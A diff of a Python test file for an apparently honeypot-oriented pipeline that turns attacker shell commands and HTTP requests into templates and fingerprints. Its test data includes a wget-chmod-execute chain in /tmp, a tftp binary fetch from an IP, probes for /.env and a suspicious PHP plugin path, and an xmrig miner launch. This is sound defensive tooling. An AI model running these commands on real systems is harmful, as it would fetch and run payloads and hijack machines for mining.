@@ -19,8 +19,8 @@ from rustbucket_pipeline.analysis.vocabulary import known_words
             "cd /tmp ; wget <url> ; chmod <n> <w> ; ./<w>.sh",
             ("cd", "wget", "chmod", "./<w>.sh"),
         ),
-        ("cat /proc/cpuinfo | grep name | wc -l", "cat /proc/cpuinfo | grep <w> | wc -l", ("cat", "grep", "wc")),
-        ("tftp -g -r mips 198.51.100.7:69", "tftp -g -r mips <ip>", ("tftp",)),
+        ("cat /proc/cpuinfo | grep qxz | wc -l", "cat /proc/cpuinfo | grep <w> | wc -l", ("cat", "grep", "wc")),
+        ("tftp -g -r qxz 198.51.100.7:69", "tftp -g -r <w> <ip>", ("tftp",)),
         ("GET /.env", "get /.env", ("get",)),
         ("GET /wp-content/plugins/evil/1.php?id=7", "get /wp-content/<w>/<w>/<n>.php?id=<n>", ("get",)),
         ("xq 13 zz yy", "<w> <n> <w>", ("<w>",)),
@@ -45,6 +45,10 @@ def test_another_protocol_order_or_step_is_another_behaviour(
     protocol: str, kinds: tuple[str], lines: list[str]
 ) -> None:
     assert behaviour_of(protocol, kinds, lines).fingerprint != behaviour_of("ssh", (), ["id"]).fingerprint
+
+
+def test_words_of_a_rule_stay_so_that_a_template_is_as_telling_as_its_line() -> None:
+    assert "xmrig" in template_of("nohup ./xmrig -k &")[0]
 
 
 def test_repetitions_count_once_and_the_shape_knows_no_order() -> None:
